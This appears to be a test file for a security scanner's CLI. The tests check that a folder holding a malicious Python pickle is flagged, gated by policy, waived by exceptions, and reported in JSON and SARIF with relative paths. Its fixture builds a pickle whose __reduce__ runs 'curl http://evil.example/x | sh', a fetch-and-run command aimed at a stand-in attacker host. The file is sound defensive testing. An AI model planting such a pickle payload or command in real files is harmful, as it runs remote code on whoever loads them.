import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, renameSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { pathToFileURL } from "node:url";
import { Ajv } from "ajv";
import addFormats from "ajv-formats";
import { runCli } from "./helpers/cli.js";
import { loadSarifSchema } from "./helpers/sarif-schema.js";

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

function modelFolder(): string {
  const dir = mkdtempSync(join(tmpdir(), "palisade-scan-gate-"));
  // A pickle that would run a shell command when loaded; built, never loaded.
  execFileSync("python3", [
    "-c",
    `import pickle, os
class E:
    def __reduce__(self): return (os.system, ("curl http://evil.example/x | sh",))
open(${JSON.stringify(join(dir, "model.pkl"))}, "wb").write(pickle.dumps(E()))
open(${JSON.stringify(join(dir, "weights.pkl"))}, "wb").write(pickle.dumps({"w": [1.0, 2.0]}))`,
  ]);
  return dir;
}

describe("CI gate on scan model", () => {
  it("fails with exit 1 under a policy, and waives a finding with an exception", async () => {
    const dir = modelFolder();
    const policy = join(dir, "policy.yaml");
    writeFileSync(
      policy,
      "apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n",
    );
    const failed = await runCli(["scan", "model", dir, "--policy", policy, "--exit-code"], { env: { COLUMNS: "" } });
    assert.equal(failed.code, 1, failed.stderr);
    assert.match(failed.stdout, /gate: deny/);
    // Each reason names the file behind it.
    assert.match(failed.stdout, /RULE +DECISION +LOCATION +MESSAGE +SOURCE/);
    assert.ok(
      failed.stdout
        .split("\n")
        .some((line) =>
          new RegExp(
            `^supply-chain\\.finding +deny +${escapeRegExp(join(dir, "model.pkl"))} +model/pickle-dangerous-call`,
          ).test(line),
        ),
      failed.stdout,
    );
    writeFileSync(
      policy,
      `apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n  exceptions:\n    - { rule: supply-chain.finding, target: "${dir}/*", owner: sec, reason: quarantined test file, expires: 2099-01-01 }\n`,
    );
    const waived = await runCli(["scan", "model", dir, "--policy", policy, "--exit-code"]);
    assert.equal(waived.code, 0, waived.stderr);
  });

  it("records the gate's decision with the scan (gate.ci), and a plain scan decides nothing", async () => {
    const dir = modelFolder();
    const policy = join(dir, "policy.yaml");
    writeFileSync(
      policy,
      "apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n",
    );
    const db = join(dir, "store.db");
    await runCli(["scan", "model", dir, "--db", db]);
    const gated = await runCli(["scan", "model", dir, "--db", db, "--policy", policy, "--exit-code"]);
    assert.equal(gated.code, 1, gated.stderr);
    const { openStore } = await import("../src/store/index.js");
    const store = openStore({ location: db });
    try {
      const events = await store.db.selectFrom("events").select(["kind", "verdict", "reason", "payload"]).execute();
      assert.deepEqual(
        events.map((e) => [e.kind, e.verdict, e.reason]),
        [["gate.ci", "blocked", "supply-chain.finding"]],
      );
      const payload = JSON.parse(events[0]?.payload ?? "{}");
      assert.equal(payload.policy, "policy.yaml");
      assert.equal(payload.decision, "deny");
      const scans = await store.db.selectFrom("scans").select("id").execute();
      assert.ok(
        scans.some((s) => s.id === payload.scanId),
        "the decision names the scan it judged",
      );
    } finally {
      await store.close();
    }
  });

  it("puts the policy's verdict in its JSON output", async () => {
    const dir = modelFolder();
    const policy = join(dir, "policy.yaml");
    writeFileSync(
      policy,
      "apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n",
    );
    const result = await runCli(["scan", "model", dir, "--policy", policy, "--format", "json", "--exit-code"]);
    assert.equal(result.code, 1, result.stderr);
    const out = JSON.parse(result.stdout) as { verdict?: { decision: string; reasons: { ruleId: string }[] } };
    assert.equal(out.verdict?.decision, "deny");
    assert.ok(out.verdict?.reasons.some((r) => r.ruleId === "supply-chain.finding"));
  });

  it("writes SARIF that validates against the official schema", async () => {
    const result = await runCli(["scan", "model", modelFolder(), "--format", "sarif"]);
    const ajv = new Ajv({ strict: false });
    (addFormats as unknown as (a: Ajv) => void)(ajv);
    const validate = ajv.compile(loadSarifSchema());
    const sarif = JSON.parse(result.stdout) as { runs: { results: { ruleId: string; level: string }[] }[] };
    assert.ok(validate(sarif), JSON.stringify(validate.errors?.slice(0, 3)));
    assert.deepEqual(
      sarif.runs[0]?.results.map((r) => [r.ruleId, r.level]),
      [["model/pickle-dangerous-call", "error"]],
    );
  });
});

describe("palisade scan fs", () => {
  it("runs the code and model scanners over one folder with one report and one exit code", async () => {
    const dir = modelFolder();
    writeFileSync(join(dir, "requirements.txt"), "openai==1.54.3\n");
    writeFileSync(
      join(dir, "app.py"),
      'from openai import OpenAI\nclient = OpenAI()\nclient.chat.completions.create(model="gpt-4o-mini", messages=[])\n',
    );
    const result = await runCli(["scan", "fs", dir, "--format", "json", "--exit-code"]);
    assert.equal(result.code, 1, result.stderr);
    const report = JSON.parse(result.stdout) as {
      code: { sdks: { name: string }[]; models: { id: string }[] };
      models: { summary: { malicious: number; safe: number } };
      verdict: { decision: string };
    };
    assert.deepEqual(
      report.code.sdks.map((s) => s.name),
      ["openai"],
    );
    assert.deepEqual(
      report.code.models.map((m) => m.id),
      ["gpt-4o-mini"],
    );
    assert.deepEqual([report.models.summary.malicious, report.models.summary.safe], [1, 1]);
    assert.equal(report.verdict.decision, "deny");
  });
});

describe("gate locations and paths relative to the scanned root", () => {
  function project(): string {
    const dir = modelFolder();
    mkdirSync(join(dir, "app"));
    mkdirSync(join(dir, "models"));
    renameSync(join(dir, "model.pkl"), join(dir, "models", "model.pkl"));
    writeFileSync(join(dir, "requirements.txt"), "openai==1.54.3\ntorch==2.5.1\n");
    writeFileSync(
      join(dir, "app", "chat.py"),
      'import torch\nfrom openai import OpenAI\nclient = OpenAI()\nweights = torch.load("model.pt")\n',
    );
    return dir;
  }

  function policyFile(): string {
    const file = join(mkdtempSync(join(tmpdir(), "palisade-policy-")), "policy.yaml");
    writeFileSync(
      file,
      "apiVersion: palisade.dev/v1\nkind: Policy\nmetadata: { name: g }\nspec:\n  supplyChain:\n    findings: { severity: high }\n",
    );
    return file;
  }

  it("shows path:line of the finding behind each reason of a policy gate", async () => {
    const dir = project();
    const result = await runCli(["scan", "fs", dir, "--policy", policyFile()], { env: { COLUMNS: "" } });
    assert.equal(result.code, 0, result.stderr);
    const gate = result.stdout.slice(result.stdout.indexOf("gate: deny"));
    assert.match(gate, /^supply-chain\.finding +deny +app\/chat\.py:4 +code\.unsafe-torch-load \(high\)/m);
    assert.match(gate, /^supply-chain\.finding +deny +models\/model\.pkl +model\/pickle-dangerous-call \(critical\)/m);
  });

  it("reports every path relative to the scanned root in JSON, table and SARIF", async () => {
    const dir = project();
    const json = await runCli(["scan", "fs", dir, "--format", "json"]);
    assert.equal(json.code, 0, json.stderr);
    const report = JSON.parse(json.stdout) as {
      code: { findings: { location: { path: string } }[] };
      models: { files: { path: string }[] };
      verdict: { reasons: { location?: { path: string; line?: number } }[] };
    };
    assert.deepEqual(
      report.models.files.map((f) => f.path),
      ["models/model.pkl", "weights.pkl"],
    );
    assert.deepEqual(
      report.code.findings.map((f) => f.location.path),
      ["app/chat.py"],
    );
    assert.deepEqual(
      report.verdict.reasons.map((r) => r.location && `${r.location.path}:${r.location.line ?? ""}`),
      ["app/chat.py:4", "models/model.pkl:"],
    );
    // Only the target names the folder as it was given.
    assert.ok(!json.stdout.replace(`"target": ${JSON.stringify(dir)}`, "").includes(dir), json.stdout);

    const table = await runCli(["scan", "fs", dir], { env: { COLUMNS: "" } });
    assert.match(table.stdout, /^MALICIOUS +pickle +models\/model\.pkl /m);
    assert.ok(!table.stdout.includes(dir), "no absolute path in the table");

    const sarif = await runCli(["scan", "fs", dir, "--format", "sarif"]);
    assert.equal(sarif.code, 0, sarif.stderr);
    const log = JSON.parse(sarif.stdout) as {
      runs: {
        originalUriBaseIds?: Record<string, { uri: string }>;
        results: { locations: { physicalLocation: { artifactLocation: { uri: string; uriBaseId?: string } } }[] }[];
      }[];
    };
    const run = log.runs[0];
    assert.equal(run?.originalUriBaseIds?.["%SRCROOT%"]?.uri, pathToFileURL(`${dir}/`).href);
    assert.deepEqual(
      run?.results.map((r) => r.locations[0]?.physicalLocation.artifactLocation),
      [
        { uri: "app/chat.py", uriBaseId: "%SRCROOT%" },
        { uri: "models/model.pkl", uriBaseId: "%SRCROOT%" },
      ],
    );
  });
});
